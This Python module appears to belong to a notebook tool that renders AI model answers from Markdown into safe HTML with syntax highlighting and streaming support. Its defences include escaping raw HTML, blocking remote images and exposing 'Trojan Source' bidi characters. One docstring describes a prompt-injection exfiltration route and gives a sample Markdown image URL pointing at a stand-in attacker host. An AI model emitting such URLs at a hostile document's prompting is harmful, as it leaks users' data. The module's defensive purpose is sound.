"""Markdown to safe HTML for answers (whole, or incrementally while they stream), with code
blocks highlighted by pygments.

Uses mistune 3 when it is installed (it comes with nbconvert / Jupyter), with raw HTML escaped;
otherwise a small built-in renderer that covers what model answers mostly contain: fenced code,
headings, lists, block quotes, paragraphs, **bold**, *italic*, `code` and [links](https://...).
Either way, nothing from the answer is ever passed through as raw HTML, `javascript:` / `data:`
links are neutralised, links open in a new tab (`target=_blank rel="noopener noreferrer"`), an
image is loaded only when it is inline data (others become links: see `_loads_image`), and code
shows its bidi controls as `<U+202E>` (see `show_bidi`).
The HTML carries classes only; `style.py` holds the stylesheet (theme CSS variables).
"""

from __future__ import annotations

import html
import re

from .._log import swallowed

#: answers longer than this are shown as plain pre-wrapped text (rendering would take too long)
MAX_MARKDOWN_CHARS = 300_000

#: a streaming tail with no block boundary is settled at a line end once it is this long
MAX_TAIL_CHARS = 16_000
_LINK_ATTRS = ' target="_blank" rel="noopener noreferrer"'


def escape(text: str) -> str:
    return html.escape(text, quote=True)


def plain_html(text: str) -> str:
    """Text as escaped, pre-wrapped HTML (answers shown without Markdown)."""
    return '<div class="llmcells-plain">' + escape(text) + "</div>"


#: the bidi embeddings, overrides and isolates: in code they make it read in another order than
#: it runs ("Trojan Source"), so code shows them as what they are, as code editors do
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def show_bidi(code_html: str) -> str:
    """Code (as HTML) with each bidi control written out visibly: `<U+202E>`."""
    return _BIDI.sub(lambda m: f"&lt;U+{ord(m.group()):04X}&gt;", code_html)


def highlight_code(code: str, lang: str | None = None) -> str:
    """A highlighted code block: pygments' short classes, coloured by the stylesheet from the
    theme's editor colours; the block keeps its lines and scrolls sideways."""
    try:
        from pygments import highlight
        from pygments.formatters import HtmlFormatter
        from pygments.lexers import TextLexer, get_lexer_by_name
        from pygments.util import ClassNotFound

        name = (lang or "").strip().split()[0] if (lang or "").strip() else ""
        try:
            lexer = get_lexer_by_name(name) if name else TextLexer()
        except ClassNotFound:
            lexer = TextLexer()
        body = highlight(code, lexer, HtmlFormatter(nowrap=True))
    except Exception as exc:
        swallowed("highlighting a code block (plain escaped code instead)", exc)
        body = escape(code)
    cls = f' class="language-{escape(name)}"' if name else ""
    return f"<pre><code{cls}>{show_bidi(body)}</code></pre>"


# ----- mistune, when available --------------------------------------------------------------

_md = None


def _mistune():
    global _md
    if _md is None:
        try:
            import mistune
        except ImportError:
            _md = False
        else:
            class _Renderer(mistune.HTMLRenderer):
                def block_code(self, code, info=None):  # noqa: D401 - mistune's signature
                    return highlight_code(code, info) + "\n"

                def codespan(self, text):  # noqa: D401
                    return show_bidi(super().codespan(text))

                def link(self, text, url, title=None):  # noqa: D401
                    return super().link(text, url, title).replace("<a", "<a" + _LINK_ATTRS, 1)

                def image(self, text, url, title=None):  # noqa: D401
                    if _loads_image(url):  # (no referrer goes with it)
                        return super().image(text, url, title).replace(
                            "<img", '<img referrerpolicy="no-referrer"', 1)
                    return _image_link(self, text, url)

                def table(self, text):  # wide tables scroll inside the card
                    return f'<div class="llmcells-table"><table>\n{text}</table></div>\n'

            try:
                _md = mistune.create_markdown(
                    escape=True, renderer=_Renderer(escape=True),
                    plugins=["strikethrough", "table"])
            except Exception as exc:
                swallowed("building the mistune renderer (the simple one instead)", exc)
                _md = False
    return _md or None


#: an image the card can show without a request: inline data of a raster type
_INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);", re.I)


def _loads_image(url: str) -> bool:
    """Whether a card shows an answer's Markdown image. Loading it would send a request the
    moment the card is shown (or a saved notebook opened), and an answer steered by a hostile
    document can put anything it read into that URL (`![](https://attacker.example/?q=...)`):
    so only inline data images are shown, unless `configure(remote_images=True)`."""
    from ..config import settings

    return settings.remote_images or bool(_INLINE_IMAGE.match(url.strip()))


def _image_link(renderer, text: str, url: str) -> str:
    """An image not loaded: a link the user may open, labelled with its alt text."""
    from mistune.util import striptags

    label = striptags(text).strip() or "image"  # (text is the alt text as HTML, escaped already)
    where = escape(url.strip()[:200])
    return (f'<a class="llmcells-image-link" href="{renderer.safe_url(url)}"{_LINK_ATTRS} '
            f'title="image not loaded (configure(remote_images=True) shows images): {where}">'
            f"[image: {label}]</a>")


# ----- the small built-in renderer ----------------------------------------------------------

_INLINE_CODE = re.compile(r"`([^`\n]+)`")
_BOLD = re.compile(r"\*\*(?=\S)(.+?)(?<=\S)\*\*|__(?=\S)(.+?)(?<=\S)__")
_ITALIC = re.compile(r"(?<![*\w])\*(?=\S)([^*\n]+?)(?<=\S)\*(?![*\w])|(?<![_\w])_(?=\S)([^_\n]+?)(?<=\S)_(?![_\w])")
_LINK = re.compile(r"\[([^\]\n]+)\]\((https?://[^\s)]+)\)")
_FENCE = re.compile(r"^(\s{0,3})(`{3,}|~{3,})\s*([^\s`]*)[^`]*$")
_HEADING = re.compile(r"^\s{0,3}(#{1,6})\s+(.*?)\s*#*\s*$")
_ULIST = re.compile(r"^(\s*)[-*+]\s+(.*)$")
_OLIST = re.compile(r"^(\s*)(\d+)[.)]\s+(.*)$")
_QUOTE = re.compile(r"^\s{0,3}>\s?(.*)$")
_HR = re.compile(r"^\s{0,3}([-*_])(\s*\1){2,}\s*$")


def _inline(text: str) -> str:
    """Inline markdown on escaped text: code spans first (their content is left alone)."""
    out, pos = [], 0
    for m in _INLINE_CODE.finditer(text):
        out.append(_inline_plain(text[pos:m.start()]))
        out.append("<code>" + show_bidi(escape(m.group(1))) + "</code>")
        pos = m.end()
    out.append(_inline_plain(text[pos:]))
    return "".join(out)


def _inline_plain(text: str) -> str:
    s = escape(text)
    s = _LINK.sub(lambda m: f'<a href="{m.group(2)}"{_LINK_ATTRS}>{m.group(1)}</a>', s)
    s = _BOLD.sub(lambda m: f"<strong>{m.group(1) or m.group(2)}</strong>", s)
    s = _ITALIC.sub(lambda m: f"<em>{m.group(1) or m.group(2)}</em>", s)
    return s


def _simple_markdown(text: str) -> str:
    lines = text.replace("\r\n", "\n").split("\n")
    out: list[str] = []
    para: list[str] = []
    list_kind: str | None = None

    def end_para():
        if para:
            out.append("<p>" + "<br>\n".join(_inline(p) for p in para) + "</p>")
            para.clear()

    def end_list():
        nonlocal list_kind
        if list_kind:
            out.append(f"</{list_kind}>")
            list_kind = None

    i = 0
    while i < len(lines):
        line = lines[i]
        fence = _FENCE.match(line)
        if fence:
            end_para(); end_list()
            marker, lang = fence.group(2), fence.group(3)
            code: list[str] = []
            i += 1
            while i < len(lines) and not lines[i].strip().startswith(marker[:3] if marker[0] == "`" else marker):
                code.append(lines[i])
                i += 1
            out.append(highlight_code("\n".join(code) + "\n", lang))
            i += 1
            continue
        if not line.strip():
            end_para(); end_list()
        elif m := _HEADING.match(line):
            end_para(); end_list()
            n = len(m.group(1))
            out.append(f"<h{n}>{_inline(m.group(2))}</h{n}>")
        elif _HR.match(line):
            end_para(); end_list()
            out.append("<hr>")
        elif m := _ULIST.match(line):
            end_para()
            if list_kind != "ul":
                end_list(); out.append("<ul>"); list_kind = "ul"
            out.append(f"<li>{_inline(m.group(2))}</li>")
        elif m := _OLIST.match(line):
            end_para()
            if list_kind != "ol":
                end_list(); out.append(f'<ol start="{int(m.group(2))}">'); list_kind = "ol"
            out.append(f"<li>{_inline(m.group(3))}</li>")
        elif m := _QUOTE.match(line):
            end_para(); end_list()
            out.append(f"<blockquote>{_inline(m.group(1))}</blockquote>")
        elif list_kind and line.startswith(("  ", "\t")):
            out[-1] = out[-1][: -len("</li>")] + "<br>" + _inline(line.strip()) + "</li>"
        else:
            end_list()
            para.append(line)
        i += 1
    end_para(); end_list()
    return "\n".join(out)


def markdown_body(text: str) -> str:
    """Markdown as safe HTML, without the wrapper (so pieces of one answer can be joined)."""
    md = _mistune()
    try:
        return md(text) if md is not None else _simple_markdown(text)
    except Exception as exc:
        swallowed("rendering markdown with mistune (the simple renderer instead)", exc)
        try:
            return _simple_markdown(text)
        except Exception as exc:
            swallowed("rendering markdown simply (plain escaped text instead)", exc)
            return '<div class="llmcells-plain">' + escape(text) + "</div>"


def render_markdown(text: str) -> str:
    """Markdown answer text as safe HTML (code highlighted); plain pre-wrapped text if very long."""
    if not text:
        return ""
    if len(text) > MAX_MARKDOWN_CHARS:
        return plain_html(text)
    return f'<div class="llmcells-md">{markdown_body(text)}</div>'


_FENCE_OPEN = re.compile(r"^\s{0,3}(`{3,}|~{3,})")
_FENCE_CLOSE = re.compile(r"^\s{0,3}(`{3,}|~{3,})\s*$")


class StreamingMarkdown:
    """The HTML of an answer that grows: text is fed in pieces; `html()` renders the settled
    blocks (those before the last blank line outside a code fence) once, and re-renders only the
    unsettled tail each time, so a long answer costs linear time, not quadratic.

    With markdown=False, or once the answer passes MAX_MARKDOWN_CHARS, pieces are only escaped.
    """

    def __init__(self, markdown: bool = True):
        self.markdown = markdown
        self.chars = 0
        self._done: list[str] = []   # HTML of settled blocks, in order
        self._tail = ""              # text not yet settled
        self._scan = 0               # where the next line of the tail starts (already scanned up to)
        self._fence: str | None = None  # the opening fence line while inside a code block
        self._plain = not markdown
        self.renders = 0             # Markdown renders (for tests: linear, not quadratic)

    def feed(self, text: str) -> None:
        if not text:
            return
        self.chars += len(text)
        if self._plain:
            self._done.append(escape(text))
            return
        if self.chars > MAX_MARKDOWN_CHARS:
            # too long to keep as Markdown: settle what we have and escape the rest
            if self._tail:
                self._settle(len(self._tail))
            self._plain = True
            self._done.append('<div class="llmcells-plain">')
            self._done.append(escape(text))
            return
        self._tail += text

    def _render(self, chunk: str) -> None:
        self.renders += 1
        self._done.append(markdown_body(chunk))

    def _settle(self, end: int, reopen: str | None = None) -> None:
        chunk, self._tail = self._tail[:end], self._tail[end:]
        self._scan = max(0, self._scan - end)
        if reopen:  # split inside a code block: close it here, reopen it in the tail
            chunk += "\n" + reopen.strip()[:3] + "\n"
            self._tail = reopen + "\n" + self._tail
            self._scan += len(reopen) + 1
        if chunk.strip():
            self._render(chunk)

    def _advance(self) -> None:
        boundary = -1
        tail = self._tail
        while True:
            nl = tail.find("\n", self._scan)
            if nl < 0:
                break
            line = tail[self._scan:nl]
            if self._fence is not None:
                m = _FENCE_CLOSE.match(line)
                if m and m.group(1)[0] == self._fence.lstrip()[0]:
                    self._fence = None
                    boundary = nl + 1  # a closed code block is a settled block
            elif _FENCE_OPEN.match(line):
                self._fence = line
            elif not line.strip():
                boundary = nl + 1
            self._scan = nl + 1
        if boundary > 0:
            self._settle(boundary)
        elif len(self._tail) > MAX_TAIL_CHARS:
            last = self._tail.rfind("\n", 0, self._scan)
            if last > 0:
                self._settle(last + 1, reopen=self._fence)

    def html(self) -> str:
        """The answer so far as HTML (a wrapper div around the settled blocks and the tail)."""
        if self._plain:
            body = "".join(self._done)
            if self.markdown:
                return f'<div class="llmcells-md">{body}</div></div>'
            return f'<div class="llmcells-plain">{body}</div>'
        self._advance()
        tail = markdown_body(self._tail) if self._tail.strip() else ""
        if tail:
            self.renders += 1
        return '<div class="llmcells-md">' + "".join(self._done) + tail + "</div>"
